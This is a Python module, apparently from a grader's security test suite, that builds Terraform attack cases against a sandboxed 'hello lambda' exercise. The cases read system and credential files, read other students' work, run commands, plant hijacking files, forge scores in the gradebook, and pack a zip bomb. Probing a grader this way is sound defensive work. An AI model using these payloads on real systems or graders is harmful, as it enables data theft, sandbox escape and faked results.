"""Terraform that attacks: what it finds goes into a function's variable, which prints it."""

from __future__ import annotations

import zipfile
from collections.abc import Mapping
from pathlib import Path
from typing import Any

from .attack import Attack, Build, solution

SLUG = "03_hello_lambda"
_PRINTS = """import json
import os


def handler(event, context):
    loot = os.environ.get("LOOT")
    print("TRIED")
    if loot:
        print("WON", loot[:300])
    name = event.get("name") or "world"
    body = json.dumps({"message": f"Hello, {name}!"}, ensure_ascii=False)
    return {"statusCode": 200, "headers": {"Content-Type": "application/json"}, "body": body}
"""
_RUNTIME = '  runtime          = "python3.12"\n'

# What an expression finds. The names of files are put together, past what looks for their text.
LOOT = {
    "reads_accounts": ("Reads the accounts of the machine.", 'file(join("/", ["", "etc", "passwd"]))'),
    "reads_a_file": ("Reads a file of whoever grades.", 'file(join("", ["@secret_file@"]))'),
    "reads_the_checks": ("Reads the checks that judge it.", 'file(join("", ["@checks@"]))'),
    "reads_a_neighbour": ("Reads another student's work.", 'filebase64(join("", ["@neighbour@"]))'),
    "reads_a_template": ("Reads a file as a template.", 'templatefile(join("", ["@secret_file@"]), {})'),
    "climbs_out": ("Reads a file by climbing out of its folder.", 'file("${path.module}/../../../../../../../..@secret_file@")'),
    "lists_files": ("Lists the files of the machine.", 'join(",", fileset("@folder@", "**"))'),
    "hashes_a_file": ("Learns of a file by its hash.", 'filesha256(join("", ["@secret_file@"]))'),
    "sees_that_a_file_exists": ("Learns which files there are.", 'fileexists(join("", ["@secret_file@"])) ? "there" : ""'),
    "reads_its_environment": ("Reads the seed from the environment of Terraform.", 'filebase64(join("/", ["", "proc", "self", "environ"]))'),
    "reads_the_pipe": ("Takes requests out of the pipe by which Terraform is spoken to.", 'filebase64(join("/", ["", "proc", "self", "fd", "3"]))'),
    "reads_the_other_pipe": ("Waits for ever at a pipe, for the grader to give up.", 'filebase64(join("/", ["", "proc", "self", "fd", "4"]))'),
    "reads_standard_input": ("Reads standard input by its device.", 'filebase64(join("/", ["", "dev", "stdin"]))'),
}  # fmt: skip

# What a file beside the honest ones does; the second word tells whether it costs points.
_FILES = {
    "copies_a_file": (True, "Brings a file outside in by a data source.",
        'data "local_file" "x" {\n  filename = "@secret_file@"\n}\noutput "x" {\n  value = data.local_file.x.content\n}\n'),
    "packs_a_folder": (True, "Packs a folder outside.",
        'data "archive_file" "x" {\n  type = "zip"\n  source_dir = "@folder@"\n  output_path = "${path.module}/x.zip"\n}\n'),
    "uploads_a_file": (True, "Uploads a file outside.",
        'resource "aws_s3_object" "x" {\n  bucket = aws_s3_bucket.data_lake.id\n  key = "k"\n  source = "@secret_file@"\n}\n'),
    "makes_code_of_a_file": (True, "Makes a function of a file outside.",
        'resource "aws_lambda_function" "x" {\n  function_name = "x"\n  role = aws_iam_role.hello.arn\n'
        '  runtime = "python3.12"\n  handler = "x.y"\n  filename = "@secret_file@"\n}\n'),
    "writes_a_file": (True, "Writes a file outside.",
        'resource "local_file" "x" {\n  filename = "@folder@/mark"\n  content = "I was here"\n}\n'),
    "writes_the_gradebook": (True, "Writes over the gradebook.",
        'resource "local_file" "x" {\n  filename = "@gradebook@"\n  content = "score: 100"\n}\n'),
    "writes_into_a_pipe": (True, "Writes a forged answer into the pipe of the deployment.",
        'resource "local_file" "x" {\n  filename = "/proc/self/fd/4"\n'
        '  content = "{\\"id\\": 2, \\"answer\\": {\\"stage\\": \\"applied\\"}}\\n"\n}\n'),
    "archives_elsewhere": (True, "Writes an archive outside.",
        'data "archive_file" "x" {\n  type = "zip"\n  source_content = "x"\n  source_content_filename = "x"\n'
        '  output_path = "@folder@/x.zip"\n}\n'),
    "runs_a_command": (True, "Runs a command on the machine.",
        'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "touch @folder@/mark"\n  }\n}\n'),
    "runs_a_program": (True, "Runs a program as a data source.",
        'data "external" "x" {\n  program = ["touch", "@folder@/mark"]\n}\n'),
    "fetches_a_module": (True, "Fetches a module from the machine's port.",
        'module "x" {\n  source = "http://127.0.0.1:@port@/x.zip"\n}\n'),
    "takes_a_module_outside": (True, "Takes a folder outside for a module.",
        'module "x" {\n  source = "@folder@"\n}\n'),
    "keeps_its_state_outside": (False, "Keeps its state in a file outside.",
        'terraform {\n  backend "local" {\n    path = "@folder@/state"\n  }\n}\n'),
    "keeps_its_state_at_a_port": (False, "Sends its state to a port of the machine.",
        'terraform {\n  backend "http" {\n    address = "http://127.0.0.1:@port@/"\n  }\n}\n'),
    "reads_another_state": (True, "Reads a state from a port of the machine.",
        'data "terraform_remote_state" "x" {\n  backend = "http"\n  config = {\n    address = "http://127.0.0.1:@port@/"\n  }\n}\n'),
    "deploys_elsewhere": (False, "Deploys to a port of the machine.",
        'provider "aws" {\n  alias = "x"\n  region = "us-east-1"\n  access_key = "test"\n  secret_key = "test"\n'
        '  endpoints {\n    s3 = "http://127.0.0.1:@port@"\n  }\n}\n'
        'resource "aws_s3_bucket" "x" {\n  provider = aws.x\n  bucket = "elsewhere"\n}\n'),
    "counts_without_end": (True, "Makes a thousand million things.",
        'resource "null_resource" "x" {\n  count = 1e9\n}\n'),
    "grows_without_end": (True, "Doubles a text forty times.",
        'locals {\n  s0 = "xxxxxxxxxxxxxxxx"\n'
        + "".join(f'  s{n} = "${{local.s{n - 1}}}${{local.s{n - 1}}}"\n' for n in range(1, 40))
        + '}\noutput "x" {\n  value = local.s39\n}\n'),
    "nests_without_end": (True, "Nests brackets more deeply than a stack.",
        'output "x" {\n  value = ' + "[" * 100_000 + "]" * 100_000 + "\n}\n"),
}  # fmt: skip

_PLANTED = {
    ".terraformrc": 'provider_installation {\n  filesystem_mirror {\n    path = "."\n  }\n}\n',
    "terraform.rc": 'credentials "app.terraform.io" {\n  token = "x"\n}\n',
    ".terraform.lock.hcl": 'provider "x" {',
    "terraform.tfstate": '{"version": 4, "resources": "none"}',
    "override.tf": 'provider "aws" {\n  region = "evil"\n}\n',
    "conftest.py": "import os\nos.system('touch @folder@/mark')\n",
    "sitecustomize.py": "import os\nos.system('touch @folder@/mark')\n",
    "usercustomize.py": "import os\nos.system('touch @folder@/mark')\n",
    "pytest.ini": "[pytest]\naddopts = -p evil\n",
    "pip.conf": "[global]\nindex-url = http://127.0.0.1:@port@/\n",
    "pyvenv.txt": "home = /tmp\n",
    "grader/__init__.py": "raise SystemExit(0)\n",
    "json.py": "raise SystemExit(0)\n",
    "checks.py": "print('100/100')\nraise SystemExit(0)\n",
    "challenge.toml": "points = 100\n",
    "report.json": '{"score": 100}',
}
_PROGRAM = "#!/bin/sh\ntouch @folder@/mark\n"


def attacks() -> list[Attack]:
    """Return all of them."""
    found = [
        Attack(f"tf_{name}", what, SLUG, _finding(expression))
        for name, (what, expression) in LOOT.items()
    ]
    found += [
        Attack(f"tf_{name}", what, SLUG, _with_file(text), costs=costs, shows="")
        for name, (costs, what, text) in _FILES.items()
    ]
    found.append(
        Attack(
            "tf_plants_files",
            "Plants settings, modules, results and providers where tools look for them.",
            SLUG,
            _planting,
        )
    )
    found.append(
        Attack(
            "tf_packs_a_bomb",
            "Hands in a package that unpacks to gigabytes.",
            SLUG,
            _bomb,
            costs=True,
            shows="",
        )
    )
    return found


def finds(expression: str, world: Mapping[str, Any]) -> str:
    """Return a configuration that keeps what an expression finds, and needs no cloud for it."""
    return known(
        f'resource "null_resource" "x" {{\n  triggers = {{ LOOT = {expression} }}\n}}\n', world
    )


def _finding(expression: str) -> Build:
    def build(folder: Path, world: Mapping[str, Any]) -> None:
        _honest(folder)
        file = folder / "lambda.tf"
        variables = f'  environment {{\n    variables = {{ LOOT = try({expression}, "") }}\n  }}\n'
        text = file.read_text().replace(_RUNTIME, _RUNTIME + known(variables, world))
        file.write_text(text)

    return build


def _with_file(text: str) -> Build:
    def build(folder: Path, world: Mapping[str, Any]) -> None:
        _honest(folder)
        (folder / "extra.tf").write_text(known(text, world))

    return build


def _planting(folder: Path, world: Mapping[str, Any]) -> None:
    _honest(folder)
    for name, text in _PLANTED.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(known(text, world))
    for top in (".terraform/providers", "terraform.d/plugins"):
        place = folder / top / "registry.terraform.io/hashicorp/aws/5.100.0/linux_amd64"
        place.mkdir(parents=True)
        program = place / "terraform-provider-aws_v5.100.0_x5"
        program.write_text(known(_PROGRAM, world))
        program.chmod(0o755)


def _bomb(folder: Path, world: Mapping[str, Any]) -> None:
    _honest(folder)
    with zipfile.ZipFile(folder / "lambdas" / "x.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("hello.py", _PRINTS)
        with archive.open("zeros", "w", force_zip64=True) as file:
            for _number in range(400):
                file.write(bytes(1 << 20))
    file_name = '"${path.module}/lambdas/x.zip"'
    text = (folder / "lambda.tf").read_text()
    text = text.replace("data.archive_file.hello.output_path", file_name)
    text = text.replace(
        "data.archive_file.hello.output_base64sha256", f"filebase64sha256({file_name})"
    )
    (folder / "lambda.tf").write_text(text)


def _honest(folder: Path) -> None:
    solution(folder, SLUG)
    (folder / "lambdas" / "hello.py").write_text(_PRINTS)


def known(text: str, world: Mapping[str, Any]) -> str:
    """Put what the attacker knows of the machine into a text."""
    for name, value in world.items():
        text = text.replace(f"@{name}@", str(value))
    return text
